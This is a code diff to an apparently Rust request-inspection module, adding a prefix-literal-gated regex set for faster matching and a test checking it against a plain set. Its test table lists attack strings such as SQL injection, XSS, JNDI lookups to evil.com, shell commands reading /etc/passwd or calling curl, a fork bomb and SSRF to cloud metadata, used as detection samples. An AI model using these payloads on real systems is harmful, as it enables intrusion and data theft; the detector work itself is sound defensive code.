@@ -631,7 +631,7 @@ const PATH_RULES: &[Rule] = &[
 ];
 
 struct Compiled {
-    values: RegexSet,
+    values: PrefixedSet,
     /// One set per [`GATED`] entry, in its order.
     gated: Vec<RegexSet>,
     names: RegexSet,
@@ -653,13 +653,140 @@ fn compiled() -> &'static Compiled {
                 .unwrap_or_else(|_| RegexSet::empty())
         };
         Compiled {
-            values: set(VALUE_RULES),
+            values: PrefixedSet::new(VALUE_RULES),
             gated: GATED.iter().map(|g| set(g.rules)).collect(),
             names: set(NAME_RULES),
             paths: set(PATH_RULES),
             file_names: set(FILE_NAME_RULES),
         }
     })
+}
+
+/// A set of rules asked "which is the first to match?" as one `RegexSet` would answer, for
+/// less. A pattern whose every match starts with one of a few literals (`java.lang.` …,
+/// `union` …) is run alone, and only on values holding one of those literals, found by one
+/// `aho-corasick` DFA built whole at start; the patterns with no such literals stay in a
+/// set of their own. Why: a lazy DFA over all the patterns builds each state it meets for the
+/// first time at the cost of every pattern's NFA, and distinct text meets new states all
+/// along (docs/inspect.md: two thirds of a first pass over distinct FHIR text).
+struct PrefixedSet {
+    rules: &'static [Rule],
+    /// The rules without usable prefix literals, and their indexes in `rules`.
+    unprefixed: RegexSet,
+    unprefixed_rules: Vec<usize>,
+    /// Every prefix literal of the other rules; `literal_rule` maps each to its rule.
+    literals: Option<aho_corasick::AhoCorasick>,
+    literal_rule: Vec<usize>,
+    /// Each prefixed rule's own pattern (`None` for the unprefixed ones).
+    alone: Vec<Option<regex::bytes::Regex>>,
+}
+
+/// The shortest prefix literal that gates a rule of a [`PrefixedSet`].
+const MIN_PREFIX: usize = 2;
+
+impl PrefixedSet {
+    fn new(rules: &'static [Rule]) -> PrefixedSet {
+        use regex_syntax::hir::literal::{ExtractKind, Extractor};
+        assert!(rules.len() <= 128, "candidates are a 128-bit mask");
+        let mut literals: Vec<Vec<u8>> = Vec::new();
+        let mut literal_rule = Vec::new();
+        let mut alone = Vec::new();
+        let mut unprefixed = Vec::new();
+        for (index, rule) in rules.iter().enumerate() {
+            // The same syntax the sets compile: bytes, ASCII classes.
+            let prefixes = regex_syntax::ParserBuilder::new()
+                .unicode(false)
+                .utf8(false)
+                .build()
+                .parse(rule.pattern)
+                .ok()
+                .and_then(|hir| {
+                    let mut extractor = Extractor::new();
+                    extractor
+                        .kind(ExtractKind::Prefix)
+                        .limit_class(4)
+                        .limit_repeat(4)
+                        .limit_literal_len(6)
+                        .limit_total(2_000);
+                    let seq = extractor.extract(&hir);
+                    // Every match starts with one of these. A one-byte literal (`(`, `;`) is
+                    // in most prose: such a rule would run alone on most values, a scan more.
+                    seq.literals()
+                        .filter(|l| !l.is_empty() && l.iter().all(|l| l.len() >= MIN_PREFIX))
+                        .map(|l| l.iter().map(|l| l.as_bytes().to_vec()).collect::<Vec<_>>())
+                });
+            let single = prefixes.as_ref().and_then(|_| {
+                regex::bytes::RegexBuilder::new(rule.pattern)
+                    .unicode(false)
+                    .build()
+                    .ok()
+            });
+            match (prefixes, single) {
+                (Some(prefixes), Some(single)) => {
+                    literal_rule.extend(std::iter::repeat_n(index, prefixes.len()));
+                    literals.extend(prefixes);
+                    alone.push(Some(single));
+                }
+                _ => {
+                    unprefixed.push(index);
+                    alone.push(None);
+                }
+            }
+        }
+        let literals = aho_corasick::AhoCorasick::builder()
+            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
+            .build(&literals)
+            .ok();
+        PrefixedSet {
+            rules,
+            unprefixed: RegexSetBuilder::new(unprefixed.iter().map(|&i| rules[i].pattern))
+                .unicode(false)
+                .build()
+                .unwrap_or_else(|_| RegexSet::empty()),
+            unprefixed_rules: unprefixed,
+            literals,
+            literal_rule,
+            alone,
+        }
+    }
+
+    /// The first rule, in `rules` order, that matches `text`.
+    fn first(&self, text: &str) -> Option<Hit> {
+        let bytes = text.as_bytes();
+        let mut first = None;
+        if self.unprefixed.is_match(bytes) {
+            first = self
+                .unprefixed
+                .matches(bytes)
+                .iter()
+                .next()
+                .map(|i| self.unprefixed_rules[i]);
+        }
+        let mut candidates = 0u128;
+        if let Some(literals) = &self.literals {
+            for found in literals.find_overlapping_iter(bytes) {
+                candidates |= 1 << self.literal_rule[found.pattern().as_usize()];
+            }
+        }
+        while candidates != 0 {
+            let index = candidates.trailing_zeros() as usize;
+            if first.is_some_and(|f| f < index) {
+                break;
+            }
+            if self.alone[index]
+                .as_ref()
+                .is_some_and(|r| r.is_match(bytes))
+            {
+                first = Some(index);
+                break;
+            }
+            candidates &= candidates - 1;
+        }
+        first.map(|i| Hit {
+            rule: self.rules[i].id,
+            class: self.rules[i].class,
+        })
+    }
 }
 
 /// The first rule that fires on a value: the encoding signals, the pattern rules, SQL
@@ -690,7 +817,7 @@ pub fn value_with(n: &Normalised, urls_are_fetched: bool) -> Option<Hit> {
             .find_map(|(gate, set)| first(set, gate.rules, &n.folded))
     };
     if let Some(hit) = gated(true)
-        .or_else(|| first(&compiled().values, VALUE_RULES, &n.folded))
+        .or_else(|| compiled().values.first(&n.folded))
         .or_else(|| credentials_url(&n.folded))
         .or_else(|| split_word(&n.folded))
         .or_else(|| include_url(&n.folded))
@@ -1837,6 +1964,47 @@ mod tests {
         }
     }
 
+    /// The literal-gated set answers as one `RegexSet` of the same rules would, rule for rule.
+    #[test]
+    fn the_prefixed_value_set_finds_what_one_set_finds() {
+        let plain = RegexSetBuilder::new(VALUE_RULES.iter().map(|r| r.pattern))
+            .unicode(false)
+            .build()
+            .unwrap();
+        let prefixed = &compiled().values;
+        assert!(
+            prefixed.unprefixed_rules.len() < VALUE_RULES.len() / 2,
+            "most rules are gated: {:?}",
+            prefixed.unprefixed_rules
+        );
+        let benign = [
+            "血圧（安静時）は 120/80 mmHg。朝食後に服薬 (ok); 次回 2026-04-10",
+            "At least 100 beats per minute; see http://loinc.org|8867-4",
+            "the patient's union card; select a time; java lessons",
+            "",
+        ];
+        let texts = ATTACKS
+            .iter()
+            .map(|(raw, _)| *raw)
+            .chain(benign)
+            .flat_map(|raw| {
+                let folded = normalise(raw.as_bytes(), Plus::Space).folded;
+                // Each alone, and two joined: the first rule must still be the first.
+                [
+                    folded.clone(),
+                    format!("{folded} {}", benign[1]),
+                    format!("x{folded}"),
+                ]
+            });
+        let mut fired = 0;
+        for text in texts {
+            let expected = first(&plain, VALUE_RULES, &text).map(|h| h.rule);
+            fired += usize::from(expected.is_some());
+            assert_eq!(prefixed.first(&text).map(|h| h.rule), expected, "{text:?}");
+        }
+        assert!(fired > 50, "the comparison saw rules fire: {fired}");
+    }
+
     #[test]
     fn every_pattern_compiles() {
         for rule in VALUE_RULES
@@ -1861,162 +2029,165 @@ mod tests {
         assert_eq!(hit("血圧:http://10.0.0.1/"), Some("ssrf"));
     }
 
+    /// One attack of each kind, and the class that must find it.
+    const ATTACKS: &[(&str, &str)] = &[
+        ("1' OR '1'='1", "sqli"),
+        ("aaa%0aGET+/+HTTP/1.1", "protocol"),
+        ("GET%20http%3A%2F%2Fwww.foo.bar%20HTTP%2F1.2", "protocol"),
+        ("unix:AAAAAAAAA|http://coreruleset.org/", "protocol"),
+        ("console.info(1)", "nodejs"),
+        ("c\\u006fnsole.info(1)", "nodejs"),
+        ("process[\"env\"]", "nodejs"),
+        ("%23%7Brequire.main.constructor._load%28foo%29%7D", "nodejs"),
+        ("while(!false)", "nodejs"),
+        ("while(new%20Date)", "nodejs"),
+        ("while((true)))", "nodejs"),
+        ("require.main", "nodejs"),
+        ("java.Runtime", "java"),
+        ("@{[ system 'id' ]}", "rce"),
+        ("test<?", "php"),
+        ("<?\techo \"test\";?>", "php"),
+        ("$_(3)", "php"),
+        ("$a //x\n()", "php"),
+        ("ldap_get_entries()", "php"),
+        ("posix_getegid (", "php"),
+        ("\"system\"(ls);", "php"),
+        ("[system][0](ls);", "php"),
+        ("$y = 'sys'.'tem';", "php"),
+        ("${'ff'}", "php"),
+        ("exec /*comment*/ ()", "php"),
+        // CRS 933120, 933150, 933160, 933161, 933180, 933210, 934170, 9331200.
+        ("opcache.jit_max_polymorphic_calls=50", "php"),
+        ("memory_limit = 512M", "php"),
+        ("allow_url_include=1", "php"),
+        ("FOOcall_user_func()", "php"),
+        ("I don't like gzuncompress/*comment*/()", "php"),
+        ("exec //comment\r\n (blah)", "php"),
+        ("exec #comment\n (blah)", "php"),
+        ("touch/*a\r\nb*/()", "php"),
+        ("FILE\r\n()", "php"),
+        ("strip_tags()", "php"),
+        ("intval(foo)", "php"),
+        ("$OOO0000O0 (16)", "php"),
+        ("$____[_]{_}[@_](25)", "php"),
+        ("define('z', [['sys' .'tem']]);(z)[0][0]('uname');", "php"),
+        ("\"\\x73y\\x73tem\"(ls);", "php"),
+        ("data:text/plain;base64,SSBsb3ZlIFBIUAo=", "rfi"),
+        ("compress.bzip2://file.bz2", "rfi"),
+        ("http://example.com%2f:asd@evil.com/", "rfi"),
+        ("ssh2.shell://user:pw@example.com:22/xterm", "rfi"),
+        (":(){ :|:& };:", "rce"),
+        ("alias ls-al='ls -al'", "rce"),
+        ("/???/?s", "rce"),
+        ("www.google.com;/bin/ca?+/et*/passwd", "rce"),
+        // CRS 932160, 932230, 932235, 932236: command lines without a separator before.
+        ("cat /path/file.gz", "rce"),
+        ("time sh -c whoami", "rce"),
+        ("env --version", "rce"),
+        ("bash -c \"echo test\"", "rce"),
+        ("/usr/bin/perl -e 'print readline' some-file.txt", "rce"),
+        ("cd /;cd etc;column passwd", "rce"),
+        // CRS 932270, 932280, 932260, 932380.
+        ("%7E%2B", "rce"),
+        ("~-1", "rce"),
+        ("{l,-lh}s", "rce"),
+        ("c{a,oun}t", "rce"),
+        ("{,ifconfig}", "rce"),
+        ("{id,}", "rce"),
+        // CRS 932200, 932240, 932290: a word split by what a shell drops.
+        ("www.google.com;c$@at+/et$@c/pas$@swd", "rce"),
+        ("c$$at notes.txt", "rce"),
+        ("una$_me -a", "rce"),
+        ("pi``ng 127.0.0.1", "rce"),
+        ("pi$()ng 127.0.0.1", "rce"),
+        ("cu${}rl evil.test", "rce"),
+        ("'i'fconfig", "rce"),
+        ("\"w\"get localhost", "rce"),
+        ("x; 'wh'oami", "rce"),
+        ("perf --version", "rce"),
+        ("view=image.jpg&bcdboot < file.txt", "rce"),
+        (";'curl' http://evil.com", "rce"),
+        ("/path/to/.docker/secrets", "lfi"),
+        (">/tmp/curl", "lfi"),
+        ("backup.sql.zip", "lfi"),
+        ("0x5c0x2e./", "lfi"),
+        ("1 UNION SELECT password FROM users--", "sqli"),
+        ("%27%20or%201%3D1--", "sqli"),
+        ("<script>alert(1)</script>", "xss"),
+        ("%253Cscript%253Ealert(1)", "xss"),
+        ("＜ｓｃｒｉｐｔ＞alert(1)", "xss"),
+        ("<img src=x onerror=alert(1)>", "xss"),
+        ("javascript:alert(document.cookie)", "xss"),
+        ("../../../../etc/passwd", "lfi"),
+        ("..%5c..%5cwindows%5cwin.ini", "lfi"),
+        ("php://filter/convert.base64-encode/resource=index", "rfi"),
+        ("ftp://1.1.1.1/x", "rfi"),
+        ("jar:http://evil.co/b.zip!a", "rfi"),
+        ("http://66.240.183.75/crash.php", "rfi"),
+        ("https://[2001:41d0:701:1100::29c8]/gecko.php", "rfi"),
+        ("https://foo.bar?", "rfi"),
+        ("$&LBRACE;jndi:ldap://evil.com/webshell}", "jndi"),
+        ("%24%5Cu007Bjndi%3Aldap%3A%2F%2Fevil.com%2Fx%7D", "jndi"),
+        ("document /*foo*/ .     cookie", "xss"),
+        ("self[\"alert\"](1)", "xss"),
+        ("x\";setTimeout(name, 1)//", "xss"),
+        ("%2B!![]", "xss"),
+        ("%2bADw-script%2bAD4-", "xss"),
+        ("{{constructor.constructor('alert(1)')()}}", "xss"),
+        ("<v:vmlframe src=\"foo.com/sup.fml\"/>", "xss"),
+        ("printer)(uid=*)", "ldapi"),
+        ("*)!(sn=*", "ldapi"),
+        ("val)|(uid=*", "ldapi"),
+        ("test) ( & ", "ldapi"),
+        ("{\"username__startswith\":\"p\"}", "orm-injection"),
+        ("; cat notes.txt", "rce"),
+        ("| whoami", "rce"),
+        ("$(id)", "rce"),
+        ("() { :; }; /bin/bash -c id", "rce"),
+        ("${jndi:ldap://evil.example/a}", "jndi"),
+        ("${${lower:j}${::-n}di:ldap://evil.example/a}", "jndi"),
+        ("${${env:X:-j}ndi${date:':'}ldap://e/a}", "jndi"),
+        ("{{7*7}}", "ssti"),
+        ("{{ config.items() }}", "ssti"),
+        ("<?php system('id'); ?>", "php"),
+        ("java.lang.Runtime.getRuntime()", "java"),
+        ("cnVudGltZQ", "java"),
+        ("x=rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u", "java"),
+        (
+            "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
+            "java",
+        ),
+        ("{\"$where\": \"this.a == 1\"}", "nosql"),
+        ("__proto__[admin]=1", "prototype-pollution"),
+        ("x%0d%0aLocation:%20http://e.example/", "crlf"),
+        ("http://169.254.169.254/latest/meta-data/", "ssrf"),
+        ("http://127.0.0.1:8080/admin", "ssrf"),
+        ("http://[::1]/", "ssrf"),
+        ("http://2130706433/", "ssrf"),
+        ("http://7147006462/", "ssrf"),
+        ("strace who", "rce"),
+        ("time; ansible-playbook site.yml", "rce"),
+        ("pip3 install something", "rce"),
+        ("FOOGzInFlAtE()", "php"),
+        ("#{process.binding(foo).spawn(foo2)}", "nodejs"),
+        ("while(!0);", "nodejs"),
+        ("file_ExistS (\n\n)", "php"),
+        ("$__['o'](5)", "php"),
+        ("(/* comment */system)(ls/* comment */);", "php"),
+        (";vim -c:\\!pwd", "rce"),
+        ("IF NOT EXIST C:\\x CMD", "rce"),
+        ("if /i a==b foo", "rce"),
+        ("for /f \"tokens=*\" %G in ('dir /b') do echo %G", "rce"),
+        ("http://169。254。169。254/", "ssrf"),
+        ("localhost/admin", "ssrf"),
+        ("host.docker.internal:2375/containers", "ssrf"),
+        ("kubernetes.default.svc.cluster.local/api", "ssrf"),
+        ("%C0%AE%C0%AE%C0%AF", "encoding"),
+    ];
+
     #[test]
     fn attacks_are_found_in_every_class() {
-        let cases: &[(&str, &str)] = &[
-            ("1' OR '1'='1", "sqli"),
-            ("aaa%0aGET+/+HTTP/1.1", "protocol"),
-            ("GET%20http%3A%2F%2Fwww.foo.bar%20HTTP%2F1.2", "protocol"),
-            ("unix:AAAAAAAAA|http://coreruleset.org/", "protocol"),
-            ("console.info(1)", "nodejs"),
-            ("c\\u006fnsole.info(1)", "nodejs"),
-            ("process[\"env\"]", "nodejs"),
-            ("%23%7Brequire.main.constructor._load%28foo%29%7D", "nodejs"),
-            ("while(!false)", "nodejs"),
-            ("while(new%20Date)", "nodejs"),
-            ("while((true)))", "nodejs"),
-            ("require.main", "nodejs"),
-            ("java.Runtime", "java"),
-            ("@{[ system 'id' ]}", "rce"),
-            ("test<?", "php"),
-            ("<?\techo \"test\";?>", "php"),
-            ("$_(3)", "php"),
-            ("$a //x\n()", "php"),
-            ("ldap_get_entries()", "php"),
-            ("posix_getegid (", "php"),
-            ("\"system\"(ls);", "php"),
-            ("[system][0](ls);", "php"),
-            ("$y = 'sys'.'tem';", "php"),
-            ("${'ff'}", "php"),
-            ("exec /*comment*/ ()", "php"),
-            // CRS 933120, 933150, 933160, 933161, 933180, 933210, 934170, 9331200.
-            ("opcache.jit_max_polymorphic_calls=50", "php"),
-            ("memory_limit = 512M", "php"),
-            ("allow_url_include=1", "php"),
-            ("FOOcall_user_func()", "php"),
-            ("I don't like gzuncompress/*comment*/()", "php"),
-            ("exec //comment\r\n (blah)", "php"),
-            ("exec #comment\n (blah)", "php"),
-            ("touch/*a\r\nb*/()", "php"),
-            ("FILE\r\n()", "php"),
-            ("strip_tags()", "php"),
-            ("intval(foo)", "php"),
-            ("$OOO0000O0 (16)", "php"),
-            ("$____[_]{_}[@_](25)", "php"),
-            ("define('z', [['sys' .'tem']]);(z)[0][0]('uname');", "php"),
-            ("\"\\x73y\\x73tem\"(ls);", "php"),
-            ("data:text/plain;base64,SSBsb3ZlIFBIUAo=", "rfi"),
-            ("compress.bzip2://file.bz2", "rfi"),
-            ("http://example.com%2f:asd@evil.com/", "rfi"),
-            ("ssh2.shell://user:pw@example.com:22/xterm", "rfi"),
-            (":(){ :|:& };:", "rce"),
-            ("alias ls-al='ls -al'", "rce"),
-            ("/???/?s", "rce"),
-            ("www.google.com;/bin/ca?+/et*/passwd", "rce"),
-            // CRS 932160, 932230, 932235, 932236: command lines without a separator before.
-            ("cat /path/file.gz", "rce"),
-            ("time sh -c whoami", "rce"),
-            ("env --version", "rce"),
-            ("bash -c \"echo test\"", "rce"),
-            ("/usr/bin/perl -e 'print readline' some-file.txt", "rce"),
-            ("cd /;cd etc;column passwd", "rce"),
-            // CRS 932270, 932280, 932260, 932380.
-            ("%7E%2B", "rce"),
-            ("~-1", "rce"),
-            ("{l,-lh}s", "rce"),
-            ("c{a,oun}t", "rce"),
-            ("{,ifconfig}", "rce"),
-            ("{id,}", "rce"),
-            // CRS 932200, 932240, 932290: a word split by what a shell drops.
-            ("www.google.com;c$@at+/et$@c/pas$@swd", "rce"),
-            ("c$$at notes.txt", "rce"),
-            ("una$_me -a", "rce"),
-            ("pi``ng 127.0.0.1", "rce"),
-            ("pi$()ng 127.0.0.1", "rce"),
-            ("cu${}rl evil.test", "rce"),
-            ("'i'fconfig", "rce"),
-            ("\"w\"get localhost", "rce"),
-            ("x; 'wh'oami", "rce"),
-            ("perf --version", "rce"),
-            ("view=image.jpg&bcdboot < file.txt", "rce"),
-            (";'curl' http://evil.com", "rce"),
-            ("/path/to/.docker/secrets", "lfi"),
-            (">/tmp/curl", "lfi"),
-            ("backup.sql.zip", "lfi"),
-            ("0x5c0x2e./", "lfi"),
-            ("1 UNION SELECT password FROM users--", "sqli"),
-            ("%27%20or%201%3D1--", "sqli"),
-            ("<script>alert(1)</script>", "xss"),
-            ("%253Cscript%253Ealert(1)", "xss"),
-            ("＜ｓｃｒｉｐｔ＞alert(1)", "xss"),
-            ("<img src=x onerror=alert(1)>", "xss"),
-            ("javascript:alert(document.cookie)", "xss"),
-            ("../../../../etc/passwd", "lfi"),
-            ("..%5c..%5cwindows%5cwin.ini", "lfi"),
-            ("php://filter/convert.base64-encode/resource=index", "rfi"),
-            ("ftp://1.1.1.1/x", "rfi"),
-            ("jar:http://evil.co/b.zip!a", "rfi"),
-            ("http://66.240.183.75/crash.php", "rfi"),
-            ("https://[2001:41d0:701:1100::29c8]/gecko.php", "rfi"),
-            ("https://foo.bar?", "rfi"),
-            ("$&LBRACE;jndi:ldap://evil.com/webshell}", "jndi"),
-            ("%24%5Cu007Bjndi%3Aldap%3A%2F%2Fevil.com%2Fx%7D", "jndi"),
-            ("document /*foo*/ .     cookie", "xss"),
-            ("self[\"alert\"](1)", "xss"),
-            ("x\";setTimeout(name, 1)//", "xss"),
-            ("%2B!![]", "xss"),
-            ("%2bADw-script%2bAD4-", "xss"),
-            ("{{constructor.constructor('alert(1)')()}}", "xss"),
-            ("<v:vmlframe src=\"foo.com/sup.fml\"/>", "xss"),
-            ("printer)(uid=*)", "ldapi"),
-            ("*)!(sn=*", "ldapi"),
-            ("val)|(uid=*", "ldapi"),
-            ("test) ( & ", "ldapi"),
-            ("{\"username__startswith\":\"p\"}", "orm-injection"),
-            ("; cat notes.txt", "rce"),
-            ("| whoami", "rce"),
-            ("$(id)", "rce"),
-            ("() { :; }; /bin/bash -c id", "rce"),
-            ("${jndi:ldap://evil.example/a}", "jndi"),
-            ("${${lower:j}${::-n}di:ldap://evil.example/a}", "jndi"),
-            ("${${env:X:-j}ndi${date:':'}ldap://e/a}", "jndi"),
-            ("{{7*7}}", "ssti"),
-            ("{{ config.items() }}", "ssti"),
-            ("<?php system('id'); ?>", "php"),
-            ("java.lang.Runtime.getRuntime()", "java"),
-            ("cnVudGltZQ", "java"),
-            ("x=rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u", "java"),
-            (
-                "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
-                "java",
-            ),
-            ("{\"$where\": \"this.a == 1\"}", "nosql"),
-            ("__proto__[admin]=1", "prototype-pollution"),
-            ("x%0d%0aLocation:%20http://e.example/", "crlf"),
-            ("http://169.254.169.254/latest/meta-data/", "ssrf"),
-            ("http://127.0.0.1:8080/admin", "ssrf"),
-            ("http://[::1]/", "ssrf"),
-            ("http://2130706433/", "ssrf"),
-            ("http://7147006462/", "ssrf"),
-            ("strace who", "rce"),
-            ("time; ansible-playbook site.yml", "rce"),
-            ("pip3 install something", "rce"),
-            ("FOOGzInFlAtE()", "php"),
-            ("#{process.binding(foo).spawn(foo2)}", "nodejs"),
-            ("while(!0);", "nodejs"),
-            ("file_ExistS (\n\n)", "php"),
-            ("$__['o'](5)", "php"),
-            ("(/* comment */system)(ls/* comment */);", "php"),
-            (";vim -c:\\!pwd", "rce"),
-            ("IF NOT EXIST C:\\x CMD", "rce"),
-            ("if /i a==b foo", "rce"),
-            ("for /f \"tokens=*\" %G in ('dir /b') do echo %G", "rce"),
-            ("http://169。254。169。254/", "ssrf"),
-            ("localhost/admin", "ssrf"),
-            ("host.docker.internal:2375/containers", "ssrf"),
-            ("kubernetes.default.svc.cluster.local/api", "ssrf"),
-            ("%C0%AE%C0%AE%C0%AF", "encoding"),
-        ];
+        let cases = ATTACKS;
         for (raw, class) in cases {
             assert_eq!(hit(raw), Some(*class), "{raw}");
         }
